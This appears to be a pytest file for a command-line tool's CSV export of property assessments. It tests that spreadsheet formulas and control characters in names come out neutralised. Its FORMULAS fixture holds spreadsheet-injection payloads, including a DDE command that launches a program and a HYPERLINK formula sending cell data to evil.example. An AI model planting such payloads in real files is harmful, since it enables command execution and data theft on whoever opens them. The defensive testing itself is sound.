"""The verdict table: the values of the JSON, in the form that a spreadsheet reads, and nothing that it would compute."""

import csv
import io
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from cli.speak import say_row
from cli.tabled import COLUMNS
from tests.cli.running import Clew, Ran
from tests.realty.folders import write

FORMULAS = {
    "P1": "=cmd|' /C calc'!A0",
    "P2": "+1+1",
    "P3": "-2+3",
    "P4": "@SUM(A1:A9)",
    "P5": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "P6": "＝1+1",
    "P7": 'Lake, "the" Court',
    "P8": "ಸಿರಿ ನಿವಾಸ ₹",
    "P9": "over\u202eride",
}


def table(done: Ran) -> list[dict[str, str]]:
    """The rows of a table, by the header."""
    header, *rows = csv.reader(io.StringIO(done.out, newline=""), strict=True)
    assert header == list(COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in rows]


def number(text: str) -> float | None:
    return float(text) if text else None


def test_it_has_the_values_of_the_json(demo: Clew) -> None:
    asked, told = demo.json("assess", "realty", "--all"), demo.run("assess", "realty", "--all", "--csv")
    assert (told.code, told.err) == (0, "")
    rows = table(told)
    assert len(rows) == len(asked.lines) == 91
    for line, row in zip(asked.lines, rows, strict=True):
        assert [row[key] for key in ("id", "name", "outcome", "verdict", "as_of", "known_at")] == [
            line[key] for key in ("id", "name", "outcome", "verdict", "as_of", "known_at")
        ]
        assert (number(row["score"]), number(row["katz"]), int(row["paths"]), int(row["revision"])) == (
            line["score"], line["katz"], len(line["paths"]), line["revision"],
        )  # fmt: skip
        worst = max((p["points"] for p in line["paths"]), default=None)
        flags = [(p["flag"]["kind"], p["flag"]["entity"]["id"], p["flag"]["entity"]["name"]) for p in line["paths"] if p["points"] == worst]
        assert (row["worst_flag"], row["worst_flag_id"], row["worst_flag_name"]) in (flags or [("", "", "")])
        oldest = max(line["fresh"], key=lambda f: f["age_days"])
        assert int(row["oldest_source_days"]) == oldest["age_days"] == 34
        assert (row["of_unknown_age"], row["not_obtained"], row["entered_by_you"]) == ("", "", "")


def test_lines_end_as_the_standard_says(demo: Clew) -> None:
    done = subprocess.run(
        [sys.executable, "-c", "from cli.main import main; main()", "--data-dir", str(demo.place), "--user", "asha", "assess", "realty", "P001", "--csv"],
        capture_output=True, check=True,
    )  # fmt: skip
    assert done.stdout.count(b"\r\n") == done.stdout.count(b"\n") == 2
    assert not done.stdout.startswith(b"\xef\xbb\xbf")


def test_a_name_that_is_nobodys_is_a_row_without_a_verdict(demo: Clew) -> None:
    done = demo.run("assess", "realty", "P001", "Green Acres", "--csv")
    assert done.code == 3
    known, unknown = table(done)
    assert (known["id"], known["verdict"]) == ("P001", "avoid")
    assert (unknown["id"], unknown["name"], unknown["outcome"], unknown["verdict"], unknown["score"]) == ("", "Green Acres", "UNKNOWN_ENTITY", "", "")
    assert "Green Acres" in done.err


def test_json_and_a_table_at_once_is_wrong_usage(demo: Clew) -> None:
    done = demo.run("assess", "realty", "P001", "--csv", "--json")
    assert (done.code, done.out) == (2, "")


def test_nothing_in_it_is_computed_and_nothing_is_lost(fresh: Clew, tmp_path: Path) -> None:
    rows = io.StringIO()
    csv.writer(rows).writerows([("project_id", "name"), *FORMULAS.items()])
    folder = write(tmp_path / "mine", sources="register,publisher,as_of\nprojects,entered by you,2026-11-01\n")
    (folder / "projects.csv").write_text(rows.getvalue(), encoding="utf-8", newline="")
    assert fresh.run("import", "realty", str(folder)).code == 0
    done = fresh.run("assess", "realty", "--csv")
    assert done.code == 0
    found = {row["id"]: row for row in table(done)}
    assert {i: found[i]["name"] for i in ("P1", "P2", "P3", "P4", "P5", "P6")} == {i: f"'{FORMULAS[i]}" for i in ("P1", "P2", "P3", "P4", "P5", "P6")}
    assert {i: found[i]["name"] for i in ("P7", "P8")} == {i: FORMULAS[i] for i in ("P7", "P8")}
    assert found["P9"]["name"] == "over\\u202eride"
    assert {row["entered_by_you"] for row in found.values()} == {"projects"}
    assert found["P1"]["not_obtained"].split(";")[:2] == ["companies", "directors"]
    assert {line["id"]: line["name"] for line in fresh.json("assess", "realty").lines} == FORMULAS


@pytest.mark.parametrize(
    "cells, line",
    [
        (["=1", "+1", "-1", "@a", "\ta", "＠a"], "'=1,'+1,'-1,'@a,' a,'＠a\r\n"),
        ([-3, 0.1 + 0.2, 0.0, None, ""], "-3,0.3,0.0,,\r\n"),
        (['a "b"', "c,d", "e\r\nf", "\x1b[31mg"], '"a ""b""","c,d",e  f,\\x1b[31mg\r\n'),
    ],
)
def test_a_row(cells: Sequence[str | float | None], line: str, capsys: pytest.CaptureFixture[str]) -> None:
    say_row(cells)
    assert capsys.readouterr().out == line
